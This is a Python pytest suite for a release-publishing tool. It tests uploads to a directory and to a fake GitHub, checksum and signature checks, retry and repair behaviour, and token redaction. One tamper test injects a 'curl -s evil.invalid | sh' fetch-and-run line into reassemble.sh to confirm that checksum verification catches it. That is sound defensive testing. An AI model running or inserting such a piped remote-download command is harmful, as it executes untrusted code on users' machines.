"""Publishing dist/ to a directory and to a loopback fake of GitHub, and fetching it back."""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
from pathlib import Path

import pytest

from fake_github import FakeGitHub
from release.artifact_source import resolve_artifact
from release.checksums import published_names, write_sums
from release.errors import ChecksumError, ConfigError, PublishError
from release.publish import publish, published_files
from release.reassemble import write_reassemble_script
from release.signing import sign_sums, verify_sums
from release.split import split_if_needed

MiB = 1 << 20
CAP = MiB
TAG = "v0.1.0"
TOKEN = "ghp_fakeTokenThatMustNeverBeLogged1234"
LLM = "tea-python-llm-0.1.0-x86_64.AppImage"
PLAIN = "tea-python-0.1.0-x86_64.AppImage"
PARTS = [f"{LLM}.part0{i}" for i in range(1, 5)]
PUBLISHED = [*PARTS, PLAIN, "reassemble.sh", "manifest.json", "SHA256SUMS"]


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def make_dist(dist: Path, cap: int) -> dict:
    """What the release leaves in dist/: two AppImages (the big one split at cap), manifest, sums."""
    dist.mkdir()
    artifacts = []
    for name, size in ((LLM, 3 * MiB + MiB // 2), (PLAIN, 200_000)):
        path = dist / name
        path.write_bytes(os.urandom(size))
        path.chmod(0o755)
        parts = split_if_needed(path, cap)
        artifact = {"name": name, "kind": "appimage", "arch": "x86_64", "size": size, "sha256": sha256(path.read_bytes())}
        artifacts.append({**artifact, "parts": [part.to_json() for part in parts]} if parts else artifact)
    manifest = {"schema": 1, "version": "0.1.0", "commit": "0" * 40, "artifacts": artifacts}
    (dist / "manifest.json").write_text(json.dumps(manifest, indent=2))
    write_reassemble_script(dist, manifest)
    write_sums(dist, published_names(manifest))
    return manifest


@pytest.fixture
def dist(tmp_path) -> Path:
    make_dist(tmp_path / "dist", CAP)
    return tmp_path / "dist"


@pytest.fixture
def github(monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    with FakeGitHub(TOKEN, cap=CAP) as fake:
        monkeypatch.setenv("TEA_GITHUB_API_URL", fake.url)
        yield fake


def to_github(dist: Path, **kwargs):
    return publish(dist, "github", tag=TAG, repo="owner/tea", retry_delay=0, **kwargs)


def server_files(fake: FakeGitHub) -> dict[str, bytes]:
    assets = list(fake.release(TAG).assets.values())
    assert len({a.name for a in assets}) == len(assets), "duplicate asset names"
    assert all(a.state == "uploaded" for a in assets)
    return {asset.name: asset.data for asset in assets}


def test_published_files_are_the_parts_not_the_whole_and_metadata_last(dist):
    manifest = json.loads((dist / "manifest.json").read_text())
    assert [p.name for p in published_files(dist, manifest)] == PUBLISHED


def test_dir_publish_is_complete_checkable_and_idempotent(dist, tmp_path):
    mirror = tmp_path / "mirror"
    first = publish(dist, f"dir:{mirror}", tag=TAG)
    assert first.uploaded == PUBLISHED and first.split == {LLM: PARTS}
    assert sorted(p.name for p in mirror.iterdir()) == sorted(PUBLISHED)
    subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=mirror, check=True, capture_output=True)
    assert os.access(mirror / "reassemble.sh", os.X_OK)

    again = publish(dist, f"dir:{mirror}", tag=TAG)
    assert again.uploaded == [] and again.skipped == PUBLISHED


def test_dir_publish_replaces_a_damaged_file_only(dist, tmp_path):
    mirror = tmp_path / "mirror"
    publish(dist, f"dir:{mirror}", tag=TAG)
    (mirror / PARTS[1]).write_bytes(b"damaged")
    report = publish(dist, f"dir:{mirror}", tag=TAG)
    assert report.names("replace") == [PARTS[1]] and report.names("upload") == []
    assert (mirror / PARTS[1]).read_bytes() == (dist / PARTS[1]).read_bytes()


def test_reassemble_script_is_in_the_sums_and_checked_before_publishing(dist, tmp_path):
    """Issue 24 N8: users run reassemble.sh; SHA256SUMS (and so its signature) covers it."""
    assert "  reassemble.sh\n" in (dist / "SHA256SUMS").read_text()
    script = dist / "reassemble.sh"
    script.write_text(script.read_text().replace("set -eu", "set -eu; curl -s evil.invalid | sh"))
    checked = subprocess.run(["sha256sum", "-c", "--quiet", "SHA256SUMS"], cwd=dist, capture_output=True, text=True)
    assert checked.returncode != 0 and "reassemble.sh: FAILED" in checked.stdout
    with pytest.raises(ChecksumError, match="reassemble.sh changed since SHA256SUMS"):
        publish(dist, f"dir:{tmp_path / 'mirror'}", tag=TAG)
    assert not (tmp_path / "mirror" / "reassemble.sh").exists()


def test_merged_manifests_come_with_one_reassemble_script_for_every_split_file(tmp_path):
    from release import commands

    builds = []
    for arch in ("x86_64", "aarch64"):
        manifest = make_dist(tmp_path / arch, CAP)
        for artifact in manifest["artifacts"]:
            artifact.update(name=artifact["name"].replace("x86_64", arch), arch=arch)
            for part in artifact.get("parts") or []:
                part["name"] = part["name"].replace("x86_64", arch)
        (tmp_path / arch / "manifest.json").write_text(json.dumps(manifest))
        builds.append(tmp_path / arch / "manifest.json")
    (tmp_path / "release").mkdir()
    commands.merge_manifests(builds, tmp_path / "release" / "manifest.json")
    script = (tmp_path / "release" / "reassemble.sh").read_text()
    assert f"assemble {LLM} " in script and f"assemble {LLM.replace('x86_64', 'aarch64')} " in script


def test_dry_run_lists_split_upload_and_skip_without_writing(dist, tmp_path):
    mirror = tmp_path / "mirror"
    report = publish(dist, f"dir:{mirror}", tag=TAG, dry_run=True)
    assert not mirror.exists()
    summary = report.summary()
    assert f"{LLM}: published as 4 parts" in summary and f"would upload {PARTS[0]}" in summary


def test_dist_changed_after_checksums_is_refused(dist, tmp_path):
    (dist / PLAIN).write_bytes(b"rebuilt without updating SHA256SUMS")
    with pytest.raises(ChecksumError, match="changed since SHA256SUMS"):
        publish(dist, f"dir:{tmp_path / 'mirror'}", tag=TAG)


def test_unknown_target_and_unknown_repo_are_config_errors(dist, tmp_path, monkeypatch):
    with pytest.raises(ConfigError, match="github or dir:PATH"):
        publish(dist, "s3", tag=TAG)
    monkeypatch.chdir(tmp_path)  # not a git checkout: no origin to read the repo from
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    with pytest.raises(ConfigError, match="--repo"):
        publish(dist, "github", tag=TAG)


def test_github_split_upload_then_rerun_uploads_nothing(dist, github):
    report = to_github(dist, draft=True)
    assert github.uploads == PUBLISHED and report.uploaded == PUBLISHED
    assert server_files(github) == {name: (dist / name).read_bytes() for name in PUBLISHED}
    assert github.release(TAG).draft  # drafts are found again through the release list

    again = to_github(dist, draft=True)

    assert github.uploads == PUBLISHED and again.uploaded == [] and again.skipped == PUBLISHED
    assert len(github.releases) == 1


@pytest.mark.parametrize("failure", ["drop", "500"])
def test_github_failure_after_two_parts_then_rerun_uploads_only_the_rest(dist, github, failure):
    github.fail_after, github.failure = 2, failure
    with pytest.raises(PublishError, match="re-run publish"):
        to_github(dist)
    assert github.uploads == PARTS[:2]

    github.fail_after = None
    report = to_github(dist)

    assert report.skipped == PARTS[:2] and report.uploaded == PUBLISHED[2:]
    assert github.uploads == PUBLISHED
    assert server_files(github) == {name: (dist / name).read_bytes() for name in PUBLISHED}


def test_github_unfinished_upload_of_full_size_and_right_label_is_replaced(dist, github):
    """GitHub keeps an asset whose upload broke off as state "starter": its size and label may
    already be right, its bytes are not to be trusted."""
    github.fail_after, github.failure = 2, "drop-at-end"
    with pytest.raises(PublishError, match="re-run publish"):
        to_github(dist)
    starter = github.release(TAG).named(PARTS[2])
    assert starter.state == "starter" and starter.data == (dist / PARTS[2]).read_bytes()
    github.fail_after = None
    report = to_github(dist)
    assert report.names("replace") == [PARTS[2]] and report.skipped == PARTS[:2]
    assert server_files(github) == {name: (dist / name).read_bytes() for name in PUBLISHED}


def test_dir_publish_repairs_a_same_size_corruption(dist, tmp_path):
    mirror = tmp_path / "mirror"
    publish(dist, f"dir:{mirror}", tag=TAG)
    damaged = bytearray((mirror / PLAIN).read_bytes())
    damaged[4096] ^= 0xFF
    (mirror / PLAIN).write_bytes(bytes(damaged))
    report = publish(dist, f"dir:{mirror}", tag=TAG)
    assert report.names("replace") == [PLAIN]
    assert (mirror / PLAIN).read_bytes() == (dist / PLAIN).read_bytes()


def test_github_asset_recorded_with_other_bytes_is_replaced(dist, github):
    to_github(dist)
    asset = github.release(TAG).named(PLAIN)
    asset.label = asset.label.replace(asset.label[-65:-1], "0" * 64)  # as if an older build had been uploaded
    report = to_github(dist)
    assert report.names("replace") == [PLAIN] and github.deleted == [PLAIN]
    assert server_files(github)[PLAIN] == (dist / PLAIN).read_bytes()


def test_github_refuses_an_oversized_unsplit_asset_with_a_clear_error(tmp_path, github):
    big = tmp_path / "big"
    make_dist(big, cap=64 * MiB)  # nothing split: the 3.5 MiB AppImage exceeds the fake's 1 MiB cap
    with pytest.raises(PublishError) as error:
        to_github(big)
    message = str(error.value)
    assert f"size must be less than {CAP}" in message and "asset_size_cap" in message and "\n" not in message


def test_token_never_appears_in_output_or_errors(dist, github, capfd):
    github.fail_after = 1
    with pytest.raises(PublishError) as error:
        to_github(dist)
    github.fail_after = None
    to_github(dist, dry_run=True)
    to_github(dist)
    out, err = capfd.readouterr()
    assert "retry" in err  # the failing run did log its retries
    assert TOKEN not in out + err + str(error.value)


def test_token_never_appears_in_4xx_refusals(tmp_path, github, monkeypatch, capfd):
    big = tmp_path / "big"
    make_dist(big, cap=64 * MiB)  # unsplit: the fake refuses the upload with a 422
    with pytest.raises(PublishError) as refused:
        to_github(big)
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_wrongTokenAlsoSecret5678")
    with pytest.raises(PublishError) as unauthorized:  # 401 Bad credentials
        to_github(big)
    out, err = capfd.readouterr()
    assert "HTTP 422" in str(refused.value) and "HTTP 401" in str(unauthorized.value)
    for secret in (TOKEN, "ghp_wrongTokenAlsoSecret5678", "Bearer"):
        assert secret not in out + err + str(refused.value) + str(unauthorized.value)


def test_a_new_release_is_tagged_at_the_manifests_commit(tmp_path, github):
    """The issue's finding 14: without target_commitish GitHub tags the default branch's HEAD."""
    dist = tmp_path / "dist"
    manifest = make_dist(dist, CAP)
    commit = "1234abcd" * 5
    (dist / "manifest.json").write_text(json.dumps({**manifest, "commit": commit}))
    to_github(dist)
    assert github.release(TAG).target_commitish == commit


def test_a_manifest_without_a_commit_creates_no_release(tmp_path, github):
    dist = tmp_path / "dist"
    manifest = make_dist(dist, CAP)
    (dist / "manifest.json").write_text(json.dumps({**manifest, "commit": "unknown"}))
    with pytest.raises(PublishError, match="records no git commit"):
        to_github(dist)
    assert github.releases == {} and github.uploads == []


def test_missing_token_is_one_clear_error(dist, github, monkeypatch):
    monkeypatch.delenv("GITHUB_TOKEN")
    monkeypatch.delenv("GH_TOKEN", raising=False)
    with pytest.raises(PublishError, match="GITHUB_TOKEN or GH_TOKEN"):
        to_github(dist)
    assert to_github(dist, dry_run=True).names("upload") == PUBLISHED  # a dry run still lists


def test_wrong_token_is_refused_by_the_server(dist, github, monkeypatch):
    monkeypatch.setenv("GITHUB_TOKEN", "not-the-token")
    with pytest.raises(PublishError, match="Bad credentials"):
        to_github(dist)


def test_release_round_trips_from_github_and_from_a_mirror(dist, github, tmp_path):
    to_github(dist)
    whole = (dist / LLM).read_bytes()
    for spec in (f"{github.url}/download/{TAG}/{LLM}", str(_mirror(dist, tmp_path) / LLM)):
        path = resolve_artifact(spec, sums=None, cache_dir=tmp_path / "cache", workdir=tmp_path / spec[-12:])
        assert path.read_bytes() == whole and os.access(path, os.X_OK)


def _mirror(dist: Path, tmp_path: Path) -> Path:
    publish(dist, f"dir:{tmp_path / 'mirror'}", tag=TAG)
    return tmp_path / "mirror"


def test_part_corrupted_on_the_server_is_caught_before_reassembly(dist, github, tmp_path):
    to_github(dist)
    github.corrupt(TAG, PARTS[2], offset=1000)
    workdir = tmp_path / "work"
    with pytest.raises(ChecksumError, match=PARTS[2]):
        resolve_artifact(f"{github.url}/download/{TAG}/", sums=None, cache_dir=tmp_path / "cache",
                         workdir=workdir, name=LLM)
    assert not (workdir / LLM).exists()


def test_a_signed_release_publishes_its_sboms_and_the_sums_signature_last(dist, tmp_path, signing_key, public_keyring):
    manifest = json.loads((dist / "manifest.json").read_text())
    sbom = dist / f"{PLAIN}.cdx.json"
    sbom.write_text('{"bomFormat": "CycloneDX"}\n')
    manifest["artifacts"][1]["sbom"] = {"name": sbom.name, "sha256": sha256(sbom.read_bytes())}
    (dist / "manifest.json").write_text(json.dumps(manifest))
    sign_sums(write_sums(dist, published_names(manifest)), signing_key)
    names = [p.name for p in published_files(dist, manifest)]
    assert names == [*PARTS, PLAIN, sbom.name, "reassemble.sh", "manifest.json", "SHA256SUMS", "SHA256SUMS.asc"]
    publish(dist, f"dir:{tmp_path / 'mirror'}", tag=TAG)
    mirror = tmp_path / "mirror"
    assert verify_sums(mirror / "SHA256SUMS", mirror / "SHA256SUMS.asc", public_keyring)
    sbom.write_text("{}\n")  # changed after SHA256SUMS was written: refused like a binary
    with pytest.raises(ChecksumError, match="changed since SHA256SUMS"):
        publish(dist, f"dir:{tmp_path / 'again'}", tag=TAG)
